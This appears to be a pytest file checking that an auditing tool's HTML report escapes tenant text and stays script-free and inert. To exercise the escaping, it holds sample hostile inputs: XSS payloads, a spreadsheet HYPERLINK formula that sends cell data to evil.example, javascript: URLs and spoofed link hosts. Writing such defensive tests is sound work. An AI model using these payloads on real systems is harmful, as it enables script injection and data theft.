"""report.html: one offline, script-free, printable page whose tenant text cannot act.

The page is parsed with the standard library's `html.parser` into a small tree, so the
safety tests look at real tags and attributes, not at substrings that escaping would hide.
"""

from __future__ import annotations

import copy
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest
from markupsafe import escape

from auditor.report import html_text, svg
from auditor.report.html import VERDICT_LABELS, render
from auditor.report.html_view import ROWS_PER_CHECK
from tests.report.sample import HOSTILE, hostile_report, report, tiny_model, tiny_report

LEARN = "https://learn.microsoft.com/"
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
# Every element the page may contain: anything else (script, iframe, object, img, link,
# form, foreignObject, use, image ...) could run code or load a resource.
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "footer", "nav", "section",
    "h1", "h2", "h3", "p", "ul", "ol", "li", "a", "code", "strong", "em", "span", "br",
    "table", "thead", "tbody", "tr", "th", "td", "details", "summary",
    "svg", "g", "line", "rect", "circle", "path", "text",
}  # fmt: skip
NO_DATA = "No data:"


@dataclass
class Node:
    tag: str
    attrs: dict[str, str | None]
    children: list[Node] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def walk(self) -> list[Node]:
        out = [self]
        for child in self.children:
            out.extend(child.walk())
        return out

    def all_text(self) -> str:
        return "".join(self.text) + "".join(c.all_text() for c in self.children)

    def find(self, tag: str, **attrs: str) -> list[Node]:
        return [
            n
            for n in self.walk()
            if n.tag == tag and all(attr_has(n, k, v) for k, v in attrs.items())
        ]


def attr_has(node: Node, name: str, value: str) -> bool:
    """`class_="x"` matches one word of the class attribute; other attributes match fully."""
    actual = node.attrs.get(name.rstrip("_")) or ""
    return value in actual.split() if name == "class_" else actual == value


class TreeBuilder(HTMLParser):
    """Builds a tree and fails on any end tag that does not close the element open at that
    point: the renderer closes everything it opens."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]
        self.errors: list[str] = []
        self.doctype = ""

    def handle_decl(self, decl: str) -> None:
        self.doctype = decl

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, dict(attrs))
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.stack[-1].children.append(Node(tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if self.stack[-1].tag != tag:
            self.errors.append(f"</{tag}> closes <{self.stack[-1].tag}> at {self.getpos()}")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.stack[-1].text.append(data)


def parse(page: str) -> Node:
    builder = TreeBuilder()
    builder.feed(page)
    builder.close()
    assert builder.errors == []
    assert [n.tag for n in builder.stack] == ["#document"], "elements left open"
    assert builder.doctype.lower() == "doctype html"
    return builder.root


@pytest.fixture(scope="module")
def tiny_page() -> str:
    return render(tiny_report())


@pytest.fixture(scope="module")
def hostile_page() -> str:
    return render(hostile_report())


def test_renders_the_tiny_model_with_question_window_and_overall_verdict(tiny_page: str) -> None:
    tiny = tiny_report()
    root = parse(tiny_page)
    assert tiny.question.title in root.find("h1")[0].all_text()
    header = root.find("header")[0].all_text()
    assert "2026-11-08 12:00 UTC to 2026-11-15 12:00 UTC" in header
    first = root.find("section", id="verdicts")[0]
    assert first.find("span", class_="badge")[0].all_text() == VERDICT_LABELS[tiny.verdict]


def test_the_verdict_table_comes_first_with_every_answer_its_verdict_and_coverage(
    tiny_page: str,
) -> None:
    tiny = tiny_report()
    root = parse(tiny_page)
    sections = root.find("section")
    assert sections[0].attrs["id"] == "verdicts"
    first_answer = next(i for i, s in enumerate(sections) if attr_has(s, "class_", "answer"))
    assert first_answer > 0
    rows = sections[0].find("table", class_="verdicts")[0].find("tbody")[0].find("tr")
    assert len(rows) == len(tiny.answers) == 5
    for row, answer in zip(rows, tiny.answers, strict=True):
        cells = row.find("td")
        assert answer.id in cells[0].all_text()
        assert answer.title in cells[0].all_text()
        badge = cells[1].find("span", class_="badge")[0]
        assert badge.attrs["class"] == f"badge v-{answer.judgement.verdict}"
        assert badge.all_text() == VERDICT_LABELS[answer.judgement.verdict]
        assert cells[2].all_text().strip() not in ("", "–")  # a reason
        assert "audited" in cells[3].all_text()
    # the coverage of the first answer as counted in the model
    query = tiny.answers[0].judgement.coverage["query"]
    seen, unseen = query["audited"], query["not_assessed"]
    expected = f"query {seen} of {seen + unseen} audited ({unseen} not assessed)"
    assert expected in rows[0].find("td")[3].all_text()


def test_each_answer_section_has_its_text_references_reasons_and_per_environment_verdicts(
    tiny_page: str,
) -> None:
    tiny = tiny_report()
    root = parse(tiny_page)
    for answer in tiny.answers:
        section = root.find("section", id=f"answer-{answer.id}")[0]
        text = section.all_text()
        assert answer.paraphrase in text
        assert answer.condition in text
        for reason in answer.judgement.reasons:
            assert reason in text
        hrefs = {a.attrs["href"] for a in section.find("a")}
        assert set(answer.references) <= hrefs
        per_env = section.find("table", class_="per-env")[0].find("tbody")[0].find("tr")
        assert [r.find("td")[0].all_text() for r in per_env] == [
            e.environment for e in answer.environments
        ]
        # every finding behind the verdict is listed with its message
        behind = set(answer.judgement.findings) | {
            i for e in answer.environments for i in e.judgement.findings
        }
        for index in behind:
            assert tiny.findings[index].message in text


def test_the_environment_matrix_gives_each_environment_a_verdict_per_answer(
    tiny_page: str,
) -> None:
    tiny = tiny_report()
    rows = parse(tiny_page).find("table", class_="matrix")[0].find("tbody")[0].find("tr")
    assert len(rows) == len(tiny.scan.environments)
    for row, env in zip(rows, tiny.scan.environments, strict=True):
        cells = row.find("td")
        assert env.name in cells[0].all_text()
        expected = [
            next(e.judgement.verdict for e in a.environments if e.environment_id == env.id)
            for a in tiny.answers
        ]
        shown = [c.find("span", class_="badge")[0].attrs["class"] for c in cells[1:]]
        assert shown == [f"badge v-{v}" for v in expected]


def _assert_inert(root: Node) -> None:
    """No element outside the allow-list, no event handler, nothing loaded, and the only
    links go to Microsoft Learn (or to an anchor on the page)."""
    for node in root.walk()[1:]:
        assert node.tag in ALLOWED_TAGS, node.tag
        for name, value in node.attrs.items():
            assert not name.startswith("on"), (node.tag, name)
            assert name not in ("src", "srcset", "xlink:href", "action", "formaction", "style")
            assert "javascript:" not in re.sub(r"\s", "", value or "").lower()
            if name == "href":
                assert node.tag == "a"
                assert value is not None
                assert value.startswith((LEARN, "#")), value
    for style in root.find("style"):
        css = style.all_text().lower()
        assert "url(" not in css
        assert "@import" not in css
    csp = [m for m in root.find("meta") if m.attrs.get("http-equiv") == "Content-Security-Policy"]
    assert "default-src 'none'" in (csp[0].attrs["content"] or "")


@pytest.mark.parametrize("made", [tiny_report, hostile_report])
def test_the_page_runs_nothing_loads_nothing_and_links_only_to_learn(made: Any) -> None:
    page = render(made())
    assert "<script" not in page.lower()
    root = parse(page)
    _assert_inert(root)
    assert any(a.attrs["href"].startswith(LEARN) for a in root.find("a"))  # type: ignore[union-attr]


def test_hostile_tenant_text_is_shown_escaped_and_never_acts(hostile_page: str) -> None:
    lowered = hostile_page.lower()
    assert "<script" not in lowered
    assert "<img" not in lowered
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in hostile_page
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in hostile_page
    assert "&lt;/svg&gt;&lt;/html&gt; {{ 7*7 }} {% raw %}" in hostile_page  # not evaluated
    for text in HOSTILE:
        assert str(escape(html_text.clean(text))) in hostile_page, text
    root = parse(hostile_page)
    # the text a reader sees is the tenant's text, unchanged but for control characters
    shown = root.find("body")[0].all_text()
    assert "<script>alert('x')</script>" in shown
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in shown


def test_control_characters_are_made_visible_not_written(hostile_page: str) -> None:
    for char in ("\x00", "\x07", "\x1b", "\r"):
        assert char not in hostile_page
    assert "ctrl \u2400\u2407\u241b[31m chars" in hostile_page  # control pictures
    assert html_text.clean("\ttab\n") == "\ttab\n"
    assert html_text.clean("del\x7f c1\x85") == "del\u2421 c1\ufffd"
    # Bidirectional overrides reorder the text after them ("Trojan Source"): made visible.
    assert html_text.clean("\u202eevil\u202c \u2066x\u2069") == "\ufffdevil\ufffd \ufffdx\ufffd"


def test_only_learn_urls_become_links_even_when_the_model_says_otherwise() -> None:
    model = tiny_model()
    model["question"]["url"] = "javascript:alert(1)"
    for answer in model["answers"]:
        answer["references"] = [
            "https://evil.example/learn.microsoft.com/",
            'https://learn.microsoft.com/x" onmouseover="alert(1)',
            "https://learn.microsoft.com.evil.example/",
            LEARN + "power-automate/ok",
        ]
    for finding in model["findings"]:
        finding["learn_url"] = "http://learn.microsoft.com/plain-http"
    root = parse(render(report(model)))
    _assert_inert(root)
    hrefs = [a.attrs["href"] for a in root.find("a")]
    assert LEARN + "power-automate/ok" in hrefs
    assert all(h.startswith("#") or h == LEARN + "power-automate/ok" for h in hrefs)  # type: ignore[union-attr]
    assert "https://evil.example/learn.microsoft.com/" in root.all_text()  # shown as text


def test_charts_are_inline_svg(tiny_page: str) -> None:
    root = parse(tiny_page)
    charts = root.find("section", id="charts")[0].find("svg")
    assert len(charts) == 5
    for chart in charts:
        assert chart.attrs["xmlns"] == "http://www.w3.org/2000/svg"
        assert chart.children[0].tag == "title"
        assert chart.find("rect") or chart.find("circle")
    # the bars of runs per day: one runs bar per day, heights proportional to the runs
    days = tiny_report().charts.runs_per_day
    bars = charts[0].find("rect", class_="bar")[: len(days)]
    heights = [float(b.attrs["height"] or 0) for b in bars]
    assert heights.index(max(heights)) == max(range(len(days)), key=lambda i: days[i].runs)
    assert NO_DATA not in tiny_page


def test_empty_chart_lists_render_a_no_data_text_not_a_broken_chart() -> None:
    model = tiny_model()
    for key in model["charts"]:
        model["charts"][key] = []
    root = parse(render(report(model)))
    section = root.find("section", id="charts")[0]
    assert section.find("svg") == []
    notes = section.find("p", class_="no-data")
    assert len(notes) == 5
    assert all(n.all_text().startswith(NO_DATA) for n in notes)


def test_chart_rows_without_numbers_are_skipped_and_all_missing_means_no_data() -> None:
    model = tiny_model()  # a report.json whose chart rows lack the number each chart draws
    for rows in model["charts"].values():
        assert rows
        for row in rows:
            row.update({key: None for key in ("p95_ms", "rate", "runs") if key in row})
    broken = report(model).charts
    for chart in (
        svg.runs_per_day(broken.runs_per_day),
        svg.duration_percentiles(broken.slowest_steps, what="plug-in steps"),
        svg.duration_percentiles(broken.slowest_flows, what="flows"),
        svg.noisy_flows(broken.noisy_flows),
        svg.queue_latency(broken.queue_latency),
    ):
        assert chart.startswith('<p class="no-data">')


def test_durations_read_in_units_a_person_uses() -> None:
    assert [html_text.format_ms(v) for v in (218, 999.6, 4566.45, 1_666_500, 7_270_527)] == [
        "218 ms",
        "1.0 s",
        "4.6 s",
        "27.8 min",
        "2.0 h",
    ]
    assert html_text.format_ms(None) == html_text.format_ms(float("nan")) == "–"
    assert html_text.format_rate(0.84127) == "84.1 %"


def _appendix_rows(root: Node) -> list[Node]:
    section = root.find("section", id="findings")[0]
    return [
        row
        for table in section.find("table", class_="findings")
        for row in table.find("tbody")[0].children
        if row.tag == "tr"
    ]


def test_all_findings_are_grouped_by_check_with_passes_counted_not_listed(
    tiny_page: str,
) -> None:
    tiny = tiny_report()
    root = parse(tiny_page)
    groups = root.find("section", id="findings")[0].find("details")
    assert len(groups) == len({f.check_id for f in tiny.findings})
    listed = [f for f in tiny.findings if f.status != "pass" or f.suppressed]
    assert len(_appendix_rows(root)) == len(listed) < len(tiny.findings)
    summary = root.find("details", id="check-flow-failure-rate")[0].find("summary")[0]
    assert "2 fail, 18 pass" in summary.all_text()


def test_a_check_with_many_findings_lists_a_capped_number_and_says_how_many_are_left() -> None:
    model = tiny_model()
    failing = next(
        f for f in model["findings"] if f["check_id"] == "flow-monolithic" and f["status"] == "fail"
    )
    extra = ROWS_PER_CHECK + 50
    for k in range(extra):
        clone = copy.deepcopy(failing)
        clone["index"] = len(model["findings"])
        clone["resource_name"] = f"Generated flow {k}"
        model["findings"].append(clone)
    root = parse(render(report(model)))
    group = root.find("details", id="check-flow-monolithic")[0]
    total_failing = sum(
        1 for f in model["findings"] if f["check_id"] == "flow-monolithic" and f["status"] != "pass"
    )
    rows = group.find("table", class_="findings")[0].find("tbody")[0].find("tr")
    assert len(rows) == ROWS_PER_CHECK
    left = total_failing - ROWS_PER_CHECK
    assert f"{left} more findings of this check are not listed" in group.all_text()


def test_suppressed_findings_are_shown_as_suppressed_with_their_reason() -> None:
    model = tiny_model()
    target = next(f for f in model["findings"] if f["check_id"] == "flow-failure-rate")
    target["suppressed"] = True
    target["suppression_reason"] = "Accepted risk <b>until</b> 2027 (ticket 42)"
    page = render(report(model))
    root = parse(page)
    group = root.find("details", id="check-flow-failure-rate")[0]
    assert "1 suppressed" in group.find("summary")[0].all_text()
    row = next(r for r in group.find("tr") if target["message"] in r.all_text())
    assert row.find("span", class_="s-suppressed")
    assert "Suppressed: Accepted risk <b>until</b> 2027 (ticket 42)" in row.all_text()
    assert "&lt;b&gt;until&lt;/b&gt;" in page


def test_the_page_is_printable_and_small(tiny_page: str) -> None:
    style = parse(tiny_page).find("style")[0].all_text()
    assert "@media print" in style
    assert "break-before: page" in style
    assert "section.first { break-before: auto; }" in style  # verdicts on the first page
    assert len(tiny_page.encode()) < 400_000
